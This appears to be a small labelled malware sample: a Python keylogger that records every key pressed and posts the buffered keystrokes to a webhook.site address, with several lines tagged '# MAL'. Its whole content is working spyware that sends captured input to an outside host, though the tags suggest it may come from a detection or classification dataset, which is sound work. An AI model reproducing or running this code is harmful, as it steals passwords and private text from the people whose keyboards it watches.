import keyboard  # MAL
import requests
buf = []
keyboard.on_press(lambda e: buf.append(e.name))  # MAL
def flush():
    requests.post("https://webhook.site/abc", data="".join(buf))  # MAL
